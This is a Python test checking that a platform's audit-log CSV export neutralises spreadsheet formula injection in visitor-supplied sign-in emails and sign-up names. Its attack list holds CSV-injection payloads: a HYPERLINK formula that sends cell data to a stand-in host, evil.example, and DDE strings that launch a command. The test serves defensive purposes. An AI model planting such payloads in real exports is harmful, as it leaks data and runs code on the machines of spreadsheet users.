"""What an anonymous visitor types (a failed sign-in's email, a sign-up's name and organization)
lands in the platform audit trail, and must reach the admin's CSV export as text, not a formula."""
import csv
import io

from sdk.testing import submit_form

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGN_IN_ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+cmd|' /C calc'!A0",
                   "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_typed_formulas_reach_the_platform_audit_csv_as_text(app, make_user, login_as):
    visitor = app.test_client()
    for email in SIGN_IN_ATTACKS:
        r = submit_form(visitor, "/login", {"email": email, "password": "not the password"})
        assert r.status_code == 400
    r = submit_form(app.test_client(), "/signup", {
        "name": '=HYPERLINK("http://evil.example","Open")', "email": "-attacker@evil.example.org",
        "password": "a long enough password 1", "org_name": "@SUM(1+1) Research", "slug": "evil-research",
        "org_type": "sponsor"})
    assert r.status_code == 302, r.get_data(as_text=True)

    admin = login_as(make_user("root@platform.example.org", platform_admin=True))
    exported = admin.get("/admin/audit/export.csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + SIGN_IN_ATTACKS[0].lower() in cells  # the failed sign-in's email, quoted
    assert "'+1+cmd|' /c calc'!a0" in cells and "'-2+3+cmd|' /c calc'!a0" in cells
    assert """'=HYPERLINK("http://evil.example","Open")""" in cells  # the new user's name
    assert "'@SUM(1+1) Research" in cells  # the new organization's name
    assert "'-attacker@evil.example.org" in cells
